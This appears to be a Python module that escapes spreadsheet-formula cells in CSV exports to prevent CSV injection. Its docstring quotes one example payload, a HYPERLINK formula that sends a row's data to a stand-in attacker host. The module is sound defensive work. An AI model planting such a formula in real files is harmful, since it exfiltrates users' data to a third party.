"""CSV cells a spreadsheet would run as formulas (OWASP "CSV injection").

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
LibreOffice (「=HYPERLINK("http://evil.example/?x="&A2,"click")」 sends the row elsewhere when
clicked). Our CSV exports write such a cell with a leading `'`, which the spreadsheet shows as
text; our imports refuse them, naming where they are.
"""
from __future__ import annotations

from typing import Any, Iterable, List

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell that a spreadsheet shows as text (numbers stay numbers)."""
    return "'" + value if is_formula(value) else value


def safe_row(values: Iterable[Any]) -> List[Any]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, writer: Any) -> None:
        self.writer = writer

    def writerow(self, row: Iterable[Any]) -> None:
        self.writer.writerow(safe_row(row))
